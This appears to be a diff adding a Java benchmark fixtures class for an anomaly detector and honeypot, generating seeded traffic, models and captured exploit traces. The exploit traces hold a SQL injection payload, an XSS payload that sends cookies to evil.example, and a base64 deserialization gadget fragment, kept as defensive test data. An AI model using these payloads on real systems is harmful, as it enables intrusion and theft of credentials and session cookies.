@@ -0,0 +1,221 @@
+package com.sdi.benchmarks;
+
+import com.sdi.detector.AnomalyDetector;
+import com.sdi.detector.AnomalyDetector.AnomalyToken;
+import com.sdi.detector.AnomalyDetector.RequestVector;
+import com.sdi.detector.GmmSnapshot;
+import com.sdi.honeypot.HoneypotManager.ExecutionTrace;
+import com.sdi.honeypot.HoneypotManager.ExploitTraceBundle;
+
+import java.io.OutputStream;
+import java.io.PrintStream;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+
+/**
+ * Deterministic inputs shared by the benchmarks
+ *
+ * Everything is generated from fixed seeds so a run and the baseline it is
+ * compared with measure the same work.
+ */
+final class Fixtures {
+
+    static final int FEATURE_DIMENSION = 10;
+
+    private static final String[] METHODS = {"GET", "GET", "GET", "POST", "PUT", "DELETE"};
+    private static final String[] USER_AGENTS = {
+        "Mozilla/5.0 (X11; Linux x86_64)", "okhttp/4.12.0", "python-requests/2.31.0", "Go-http-client/1.1"
+    };
+
+    private Fixtures() {
+    }
+
+    /**
+     * The detector and pipeline log every call; keep that out of the measurement
+     */
+    static void silenceStdout() {
+        System.setOut(new PrintStream(OutputStream.nullOutputStream()));
+    }
+
+    /**
+     * Requests shaped like ordinary service traffic
+     */
+    static List<RequestVector> normalTraffic(int count, long seed) {
+        Random random = new Random(seed);
+        List<RequestVector> requests = new ArrayList<>(count);
+        for (int i = 0; i < count; i++) {
+            RequestVector request = new RequestVector();
+            request.setServiceId("checkout");
+            request.setPathLength(12 + random.nextInt(30));
+            request.setQueryParamCount(random.nextInt(4));
+            request.setHeaderCount(8 + random.nextInt(6));
+            request.setBodySize(random.nextInt(4) == 0 ? 0 : 200 + random.nextInt(800));
+            request.setMethodHash(METHODS[random.nextInt(METHODS.length)].hashCode() % 1000);
+            request.setUserAgentHash(USER_AGENTS[random.nextInt(USER_AGENTS.length)].hashCode() % 1000);
+            request.setRequestRate(5.0 + random.nextGaussian());
+            request.setTimeOfDay(random.nextDouble() * 24.0);
+            request.setIpEntropy(3.0 + random.nextDouble());
+            request.setCookieCount(random.nextInt(5));
+            requests.add(request);
+        }
+        return requests;
+    }
+
+    /**
+     * A request far from the normal traffic: long path, oversized body, burst rate
+     */
+    static RequestVector attack() {
+        RequestVector request = new RequestVector();
+        request.setServiceId("checkout");
+        Map<String, String> metadata = new HashMap<>();
+        metadata.put("payload", "' OR '1'='1' UNION SELECT username, password FROM users --");
+        request.setMetadata(metadata);
+        request.setPathLength(480);
+        request.setQueryParamCount(25);
+        request.setHeaderCount(3);
+        request.setBodySize(64_000);
+        request.setMethodHash("POST".hashCode() % 1000);
+        request.setUserAgentHash("sqlmap/1.7".hashCode() % 1000);
+        request.setRequestRate(900.0);
+        request.setTimeOfDay(3.5);
+        request.setIpEntropy(7.9);
+        request.setCookieCount(0);
+        return request;
+    }
+
+    /**
+     * Model with the given number of components fitted to {@link #normalTraffic}
+     *
+     * Means are sampled training points and every component shares the
+     * diagonal variance of the data, the same shape training produces.
+     */
+    static GmmSnapshot model(int components, long seed) {
+        AnomalyDetector extractor = new AnomalyDetector();
+        List<RequestVector> traffic = normalTraffic(Math.max(1000, components * 50), seed);
+        List<double[]> features = new ArrayList<>(traffic.size());
+        for (RequestVector request : traffic) {
+            features.add(extractor.extractFeatures(request));
+        }
+
+        double[] mean = new double[FEATURE_DIMENSION];
+        for (double[] vector : features) {
+            for (int i = 0; i < FEATURE_DIMENSION; i++) {
+                mean[i] += vector[i] / features.size();
+            }
+        }
+        double[][] covariance = new double[FEATURE_DIMENSION][FEATURE_DIMENSION];
+        for (double[] vector : features) {
+            for (int i = 0; i < FEATURE_DIMENSION; i++) {
+                double diff = vector[i] - mean[i];
+                covariance[i][i] += diff * diff / features.size();
+            }
+        }
+        for (int i = 0; i < FEATURE_DIMENSION; i++) {
+            covariance[i][i] = Math.max(covariance[i][i], 0.01);
+        }
+
+        Random random = new Random(seed);
+        double[] weights = new double[components];
+        double[][] means = new double[components][];
+        double[][][] covariances = new double[components][][];
+        for (int i = 0; i < components; i++) {
+            weights[i] = 1.0 / components;
+            means[i] = features.get(random.nextInt(features.size())).clone();
+            covariances[i] = covariance;
+        }
+        return new GmmSnapshot(1L, features.size(), weights, means, covariances);
+    }
+
+    /**
+     * Exploit trace as captured by a honeypot for the given exploit type
+     *
+     * @param type sqli, xss or deserialization
+     */
+    static ExploitTraceBundle exploit(String type) {
+        ExecutionTrace trace = new ExecutionTrace();
+        Map<String, String> metadata = new HashMap<>();
+        trace.appendControlFlow("org.apache.catalina.core.StandardWrapperValve.invoke");
+        trace.appendControlFlow("org.springframework.web.servlet.DispatcherServlet.doDispatch");
+        switch (type) {
+            case "sqli":
+                trace.setPayload("' OR '1'='1' UNION SELECT username, password FROM users WHERE 'a'='a' --");
+                trace.appendControlFlow("com.shop.checkout.OrderController.search");
+                trace.appendControlFlow("com.shop.checkout.OrderRepository.findByQuery");
+                trace.appendControlFlow("java.sql.Statement.executeQuery");
+                trace.addTaintedVariable("query");
+                trace.addTaintedVariable("sql");
+                trace.recordSyscall("sendto", 4);
+                trace.recordSyscall("recvfrom", 9);
+                trace.addExceptionEdge("java.sql.SQLSyntaxErrorException", "com.shop.checkout.ErrorAdvice.handle");
+                break;
+            case "xss":
+                trace.setPayload("<script>document.location='https://evil.example/?c='+document.cookie</script>");
+                trace.appendControlFlow("com.shop.checkout.ReviewController.post");
+                trace.appendControlFlow("com.shop.checkout.ReviewService.save");
+                trace.appendControlFlow("org.thymeleaf.TemplateEngine.process");
+                trace.addTaintedVariable("comment");
+                trace.addTaintedVariable("model.review");
+                trace.recordSyscall("write", 12);
+                break;
+            case "deserialization":
+                trace.setPayload("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"
+                                 + "P0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0");
+                trace.appendControlFlow("com.shop.checkout.SessionFilter.doFilter");
+                trace.appendControlFlow("java.io.ObjectInputStream.readObject");
+                trace.appendControlFlow("java.util.HashMap.readObject");
+                trace.appendControlFlow("java.net.URL.hashCode");
+                trace.addTaintedVariable("sessionBlob");
+                trace.recordSyscall("connect", 1);
+                trace.recordSyscall("openat", 3);
+                trace.addExceptionEdge("java.io.InvalidClassException", "com.shop.checkout.SessionFilter.doFilter");
+                break;
+            default:
+                throw new IllegalArgumentException("Unknown exploit type " + type);
+        }
+        metadata.put("payload", trace.getPayload());
+        trace.trimToSize();
+        AnomalyToken token = new AnomalyToken("checkout", metadata, 1_700_000_000_000L, 0.97,
+                                              new double[FEATURE_DIMENSION]);
+        return new ExploitTraceBundle("honeypot-checkout-1", token, trace, 1_700_000_000_000L);
+    }
+
+    /**
+     * Java source of a service class with the given number of methods
+     *
+     * Every method has a body with a few statements, so synthesis inserts a
+     * guard into each one, as it would for a real controller.
+     */
+    static String javaSource(int methods) {
+        StringBuilder source = new StringBuilder();
+        source.append("package com.shop.checkout;\n\n")
+              .append("import java.util.ArrayList;\n")
+              .append("import java.util.List;\n")
+              .append("import java.util.Map;\n\n")
+              .append("public class OrderService {\n\n")
+              .append("    private final Map<String, List<String>> orders;\n\n")
+              .append("    public OrderService(Map<String, List<String>> orders) {\n")
+              .append("        this.orders = orders;\n")
+              .append("    }\n");
+        for (int i = 0; i < methods; i++) {
+            source.append('\n')
+                  .append("    public List<String> findOrders").append(i).append("(String customer, int limit) {\n")
+                  .append("        List<String> result = new ArrayList<>();\n")
+                  .append("        List<String> known = orders.getOrDefault(customer, List.of());\n")
+                  .append("        for (String order : known) {\n")
+                  .append("            if (result.size() >= limit) {\n")
+                  .append("                break;\n")
+                  .append("            }\n")
+                  .append("            if (order.startsWith(\"").append(i).append("-\")) {\n")
+                  .append("                result.add(order.trim());\n")
+                  .append("            }\n")
+                  .append("        }\n")
+                  .append("        return result;\n")
+                  .append("    }\n");
+        }
+        source.append("}\n");
+        return source.toString();
+    }
+}